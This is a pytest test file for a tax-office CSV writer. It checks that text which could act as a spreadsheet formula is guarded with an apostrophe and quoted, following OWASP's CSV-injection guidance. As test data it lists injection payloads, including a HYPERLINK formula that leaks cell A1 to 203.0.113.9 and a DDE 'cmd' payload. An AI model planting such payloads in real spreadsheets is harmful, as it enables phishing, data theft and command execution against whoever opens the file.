"""The one writer of text tables: no field is a formula, every field is quoted where it has to be, and reading gives it back.

Which beginnings are harmful: OWASP, CSV Injection (= + - @, tab, carriage return, line feed, and the full-width signs); that a
guarded field begins with an apostrophe and stands in double quotes is from there too.
"""

from __future__ import annotations

import csv
import io
import string
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from xltax import csvtext
from xltax.hosts.incoming import sheets_of
from xltax.hosts.tablefile import read_table
from xltax.hosts.textfile import read_csv

HARMFUL = [
    '=HYPERLINK("http://203.0.113.9/?"&A1,"Pay here")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "\tROTH", "\rROTH", "\nROTH", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1", "﹣1", "﹫A",
    "−1+1", "  =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", '"=1+1', "'=1+1", "“=1+1", " '\"=1+1", "\x01=1+1",
    "-12.34+A1", "-1,2,3", "－12.34", "+1-860-555-0100", "-", "--", "=", "@", "-A1", "+A1", "- 5", "-12.3.4", "=1",
]  # fmt: skip
PLAIN = [
    "", "ROTH, JUDGE B", "O'Neil", "'t Hooft", "12 Main St", "0070", "-12.34", "+12.34", "-1,234.50", "-$12.34", "-.5", "-5%", "12-34",
    "(860) 555-0100", "860-555-0100", "+1 (860) 555-0100", "+1 860 555 0100", "a=b", "5 @ 3", "1-4", "«=1»",
]  # fmt: skip


@pytest.mark.parametrize("text", HARMFUL)
def test_a_text_that_could_be_a_formula_is_guarded_and_quoted(text: str) -> None:
    field = csvtext.field(text)
    assert field == '"' + ("'" + text).replace('"', '""') + '"'
    assert csvtext.as_it_was("'" + text) == text


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_and_every_number_stays_as_it_is(text: str) -> None:
    (row,) = csv.reader([csvtext.field(text)]) if text else ([""],)
    assert row == [text]
    assert csvtext.as_it_was(text) == text


def test_numbers_and_dates_are_written_bare() -> None:
    import datetime as dt
    from decimal import Decimal

    row = [-5, -12.5, Decimal("-12.34"), dt.date(2025, 3, 5), None, True]
    assert csvtext.table(["A"], [row]) == "A\r\n-5,-12.5,-12.34,2025-03-05,,True\r\n"


def test_a_field_cannot_begin_a_field_of_its_own_whatever_separator_the_spreadsheet_has() -> None:
    """Excel takes the separator of the computer's region; a semicolon outside of quotes would begin a cell there."""
    for between in (",", ";", "\t", "|", "\n", "\r"):
        assert csvtext.field(f"ROTH{between}=1+1") == f'"ROTH{between}=1+1"'
    assert csvtext.field('ROTH"') == '"ROTH"""'


@pytest.mark.parametrize("text", ["'", "''", "'=1", "''=1", "'a", "''-5", "'-5", "\"'=", "'\t"])
def test_a_text_that_has_an_apostrophe_of_its_own_keeps_it(text: str) -> None:
    assert csvtext.as_it_was(csvtext.harmless(text)) == text


_TEXTS = st.text(st.sampled_from("=+-@＝－ '\"`,;|\t\r\n\u00a0\u200b\ufeff.$%()" + "aB10é"), max_size=12) | st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12
)


@given(st.lists(st.lists(_TEXTS, min_size=3, max_size=3), min_size=1, max_size=4))
def test_reading_back_what_was_written_gives_the_same_text(tmp_path_factory, rows: list[list[str]]) -> None:
    path: Path = tmp_path_factory.mktemp("csv") / "table.csv"
    path.write_bytes(csvtext.table(["One", "=Two", "Three, Four"], rows).encode())
    frame = read_csv(path)
    assert list(frame.columns) == ["One", "=Two", "Three, Four"]
    assert frame.to_numpy().tolist() == rows


def test_a_name_in_a_file_that_others_send_is_taken_as_it_stands(tmp_path) -> None:
    """Her roll may hold a name that begins with an apostrophe; only a table of ours has guards to take off."""
    (tmp_path / "roll.csv").write_text("Account,Owner\n1,'=1\n")
    assert read_table(tmp_path / "roll.csv")["Owner"].tolist() == ["'=1"]
    assert sheets_of(tmp_path / "roll.csv")[0].read().rows[1] == ["1", "'=1"]
    assert read_csv(tmp_path / "roll.csv")["Owner"].tolist() == ["=1"]


@given(_TEXTS)
def test_no_field_begins_with_a_sign_unless_it_is_a_number_or_a_telephone(text: str) -> None:
    (row,) = csv.reader(io.StringIO(csvtext.field(text), newline="")) if text else ([""],)
    shown = row[0]
    if shown[:1] in ("=", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n"):
        raise AssertionError(shown)
    if shown[:1] in ("+", "-"):
        assert set(shown[1:]) <= set(string.digits + ",.$% ()-")
        assert any(c.isdigit() for c in shown)


# ---- every file a task gives away -------------------------------------------------------------------------------------


def test_no_file_of_the_servicer_the_inquiry_site_or_a_merge_has_a_formula() -> None:
    """The owner, the place and the account are typed by anybody: a mailed roll, a form, a person at the counter."""
    import datetime as dt

    import pandas as pd

    from xltax.office.billing import servicer_file
    from xltax.office.collection import letters
    from xltax.office.sharing import inquiry_file
    from xltax.office.statements import journal_files

    evil = '=HYPERLINK("http://203.0.113.9","Pay")'
    day = pd.Timestamp("2025-02-01")
    rows = pd.DataFrame([{"Account": evil, "Levy Year": 2025, "Inst": 1, "Levy Type": "RE", "Bill": evil, "Part": "", "Due": day, "Bank Code": evil,
                          "Last Free Day": day, "Billed": 100, "Tax": 100, "Interest": 0, "Penalty": 0, "Costs": 0, "Total": -100}])  # fmt: skip
    parcels = {evil: dict.fromkeys(("Block", "Lot", "Qualifier", "Owner", "Location"), evil)}
    values = dict.fromkeys(("account", "owner"), evil)
    letter = letters.Letter(**{
        **dict.fromkeys(letters.Letter.__dataclass_fields__, ""), "values": values, "email": evil, "subject": evil, "account": evil
    })  # fmt: skip
    texts = [
        inquiry_file.as_csv(rows, parcels, dt.date(2025, 3, 5)),
        servicer_file.as_csv(rows, parcels),
        letters.merge_csv([letter]).decode("utf-8-sig"),
    ]
    for text in texts:
        fields = [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]
        assert f"'{evil}" in fields
        assert [f for f in fields if f[:1] in "=+-@" and f[:1]] in ([], ["-1.00"], ["-1.00", "-1.00"])
    assert journal_files.csvtext is csvtext  # the ledger export
